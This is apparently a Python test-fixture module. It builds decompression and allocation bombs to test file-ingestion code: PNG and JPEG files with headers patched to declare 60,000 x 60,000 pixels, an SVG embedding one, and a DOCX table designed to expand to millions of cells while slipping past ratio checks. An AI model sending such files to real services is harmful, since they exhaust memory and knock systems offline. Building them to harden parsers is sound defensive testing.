"""Small files that ask a decoder for far more than they hold: pixel bombs and a huge DOCX table.

Each builder returns the bytes of a file of a few KB whose header declares a vast raster (a
decoder allocates it all before reading a pixel) or, for DOCX, a table whose grid is vast though
its cells are few. The pixels are the start of a real image with its size patched in the header,
CRCs fixed, so every reader takes the header as valid. Run this module to write the files to a
folder: ``python -m tests.hostile.media /tmp/hostile``.
"""

from __future__ import annotations

import base64
import io
import struct
import sys
import zlib
from pathlib import Path

from tests.hostile.spreadsheets import _zip

BOMB_SIDE = 60_000  # 3.6 billion pixels: gigabytes in any decoder


def _small_image(kind: str) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), "white").save(buffer, kind)
    return buffer.getvalue()


def png_bomb(width: int = BOMB_SIDE, height: int = BOMB_SIDE) -> bytes:
    """A PNG whose IHDR declares ``width`` x ``height`` (its CRC fixed); its data is a 16 x 16 image's."""
    content = bytearray(_small_image("PNG"))
    assert content[12:16] == b"IHDR"
    content[16:24] = struct.pack(">II", width, height)
    content[29:33] = struct.pack(">I", zlib.crc32(bytes(content[12:29])))
    return bytes(content)


def jpeg_bomb(width: int = BOMB_SIDE, height: int = BOMB_SIDE) -> bytes:
    """A baseline JPEG whose frame header (SOF0) declares ``width`` x ``height`` (at most 65,535 each)."""
    content = bytearray(_small_image("JPEG"))
    start = content.index(b"\xff\xc0")  # SOF0: marker, length (2), precision (1), height (2), width (2)
    content[start + 5 : start + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def svg_embedding(image: bytes, *, mime: str = "image/png") -> bytes:
    """An SVG that draws ``image`` from a data: URI (the one kind of image reference an SVG keeps)."""
    data = base64.b64encode(image).decode()
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" viewBox="0 0 400 300">'
        '<text x="10" y="30">A chart</text>'
        f'<image x="0" y="40" width="400" height="260" href="data:{mime};base64,{data}"/></svg>'
    ).encode()


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx(body_xml: str) -> bytes:
    """A minimal DOCX whose document body is ``body_xml``, written by hand (no writer "fixes" it)."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="word/document.xml"/></Relationships>'
    )
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W_NS}">'
        f"<w:body>{body_xml}</w:body></w:document>"
    )
    return _zip(
        [("[Content_Types].xml", content_types), ("_rels/.rels", rels), ("word/document.xml", document)]
    )


def _cell(text: str = "") -> str:
    run = f"<w:r><w:t>{text}</w:t></w:r>" if text else ""
    return f"<w:tc><w:p>{run}</w:p></w:tc>"


def huge_docx_table(rows: int = 15_000, wide_row_cells: int = 4_000) -> bytes:
    """A table of ``rows`` one-cell rows and one row of ``wide_row_cells`` cells: few cells, a vast grid.

    A reader that squares the table off builds ``rows x wide_row_cells`` cells (60 million here)
    from about 19,000 real ones; the file inflates to under 1 MB (below any ratio check) and compresses
    to a few KB.
    """
    narrow = f"<w:tr>{_cell('x')}</w:tr>" * rows
    wide = "<w:tr>" + _cell("wide") + _cell() * (wide_row_cells - 1) + "</w:tr>"
    return docx(f"<w:p><w:r><w:t>Invoice Number: INV-1</w:t></w:r></w:p><w:tbl>{wide}{narrow}</w:tbl>")


ATTACKS = {
    "pixel_bomb_60000x60000.png": png_bomb,
    "pixel_bomb_60000x60000.jpg": jpeg_bomb,
    "embedded_png_bomb.svg": lambda: svg_embedding(png_bomb()),
    "huge_table.docx": huge_docx_table,
}


if __name__ == "__main__":
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
    folder.mkdir(parents=True, exist_ok=True)
    for name, build in ATTACKS.items():
        (folder / name).write_bytes(build())
        print(folder / name)
